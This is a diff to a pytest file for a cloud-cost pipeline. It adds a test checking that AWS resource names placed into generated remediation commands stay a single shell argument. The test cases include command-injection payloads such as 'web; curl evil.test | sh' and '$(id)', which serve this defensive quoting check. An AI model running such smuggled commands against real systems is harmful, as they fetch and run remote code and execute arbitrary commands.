@@ -1,4 +1,5 @@
 import json
+import subprocess
 from collections.abc import Mapping
 from datetime import UTC, date, datetime, timedelta
 from decimal import Decimal
@@ -8,6 +9,7 @@ import pytest
 
 from cost_pipeline.aws.api_calls import METRICS, ApiError
 from cost_pipeline.core.model import Price
+from cost_pipeline.core.plain_text import one_line
 from cost_pipeline.prices.book import PriceBook
 from cost_pipeline.zombies.model import SweepResult
 from cost_pipeline.zombies.registry import CHECKS, Plan, sweep
@@ -69,6 +71,19 @@ def test_a_finding_says_what_since_when_whose_how_much_and_how_to_remove_it() ->
         "CloudTrail: DetachVolume by sam on 2026-10-02 09:30 UTC."
     ]
     assert json.loads(json.dumps(finding.evidence)) == finding.evidence
+
+
+@pytest.mark.parametrize(
+    "name", ["web; curl evil.test | sh", "$(id)", "`id`", "it's", "two\nlines", "web #1"]
+)
+def test_a_name_is_one_word_of_the_command_whatever_it_holds(name: str) -> None:
+    address = {"AllocationId": name, "PublicIp": "192.0.2.1"}
+    (finding,) = run("address_unassociated", {"ec2:DescribeAddresses": [address]}).findings
+    command, _ = finding.remediation.split("\nTerraform: ")
+    shell = f"aws() {{ printf '%s\\n' \"$@\"; }}\n{command}"
+    said = subprocess.run(["bash", "-c", shell], capture_output=True, text=True, check=True)
+    words = ["ec2", "release-address", "--allocation-id", one_line(name), "--region", REGION]
+    assert said.stdout.splitlines() == words
 
 
 def test_metrics_decide_and_are_told() -> None:
